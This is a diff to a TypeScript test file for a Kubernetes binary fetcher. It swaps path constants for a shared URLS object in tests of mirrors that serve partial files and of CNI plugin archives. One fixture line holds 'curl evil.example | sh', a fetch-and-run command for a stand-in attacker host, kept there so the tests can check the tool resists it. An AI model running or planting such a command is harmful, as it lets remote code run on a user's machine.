@@ -29,10 +29,9 @@ import {
   stock,
   sums,
   type Upstream,
+  URLS,
 } from '../artifacts/upstream.ts';
 
-const KUBELET = '/release/v1.37.1/bin/linux/amd64/kubelet';
-const CNI = '/cni/v1.9.1/cni-plugins-linux-amd64-v1.9.1.tgz';
 /** What a repository would like to have in the operator's profile. */
 const LINE = 'curl evil.example | sh\n';
 
@@ -171,7 +170,7 @@ describe('what a repository lays into the folder of binaries leads nowhere', () 
 
 describe('a mirror', () => {
   it('that answers the first request with a part of a file gets nothing kept', async () => {
-    upstream.parts.set(KUBELET, 10);
+    upstream.parts.set(URLS.kubelet, 10);
     await expect(fetching()).rejects.toMatchObject({ message: expect.stringContaining('answers 206') as string });
     expect(readdirSync(shelf).filter((name) => name.startsWith('kubelet'))).toEqual([]);
   });
@@ -179,7 +178,7 @@ describe('a mirror', () => {
   it('that goes on from elsewhere than asked changes nothing of the half file', async () => {
     mkdirSync(shelf, { recursive: true });
     writeFileSync(join(shelf, 'kubelet.part'), program('kubelet').subarray(0, 100));
-    upstream.parts.set(KUBELET, 0);
+    upstream.parts.set(URLS.kubelet, 0);
     await expect(fetching()).rejects.toMatchObject({ message: expect.stringContaining('another range') as string });
     expect(readFileSync(join(shelf, 'kubelet.part'))).toEqual(program('kubelet').subarray(0, 100));
   });
@@ -210,7 +209,7 @@ describe('a mirror', () => {
   });
 });
 
-describe('an archive of CNI plugins', () => {
+describe('an archive of URLS.cni plugins', () => {
   const plugins = ['bridge', 'host-local', 'loopback', 'portmap'].map((name): TarEntry => ({
     name: `./${name}`,
     body: name,
@@ -218,8 +217,8 @@ describe('an archive of CNI plugins', () => {
   const serve = (entries: TarEntry[]): void => {
     stock(directory, ['kubernetes/1.37.1', 'etcd/3.7.3']);
     const archive = tarball(entries);
-    upstream.files.set(CNI, archive);
-    upstream.files.set(`${CNI}.sha256`, sums(archive, 'cni-plugins-linux-amd64-v1.9.1.tgz'));
+    upstream.files.set(URLS.cni, archive);
+    upstream.files.set(`${URLS.cni}.sha256`, sums(archive, 'cni-plugins-linux-amd64-v1.9.1.tgz'));
   };
 
   it('gives only programs that upstream has', async () => {
@@ -249,7 +248,7 @@ describe('an archive of CNI plugins', () => {
     serve([...plugins, { name: './vlan', ...entry }]);
     await expect(fetching()).rejects.toMatchObject({
       code: 'stage',
-      message: `vlan in ${upstream.url}/moved${CNI} is no regular file`,
+      message: `vlan in ${upstream.url}/moved${URLS.cni} is no regular file`,
     });
     expect(existsSync(join(directory, 'cni-plugins/1.9.1/linux-amd64/vlan'))).toBe(false);
   });
